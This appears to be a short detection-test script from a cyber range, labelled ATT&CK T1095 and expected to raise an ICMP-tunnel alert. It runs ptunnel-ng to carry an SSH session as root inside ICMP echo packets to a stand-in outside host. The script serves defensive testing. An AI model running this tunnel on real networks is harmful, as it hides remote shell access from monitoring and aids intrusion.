# SPDX-License-Identifier: Apache-2.0
# what: a ssh session in ICMP echoes
# technique: T1095
# from: ws1
# to: inet
# account: root
# outcome: success
# must: alert tunnel_icmp
. "$RANGE_HERE/item.sh"
at inet ptunnel-ng -r203.0.113.10 -R22 >"$RANGE/ptunnel.log" 2>&1 &
sleep 0.5
ptunnel-ng -p203.0.113.10 -l2222 -r203.0.113.10 -R22 >"$HOME/ptunnel.log" 2>&1 &
sleep 1
says inet timeout 40 ssh -F "$HOME/.ssh/config" -i "$HOME/.ssh/id_ed25519" -p 2222 root@127.0.0.1 'hostname; seq 3000'
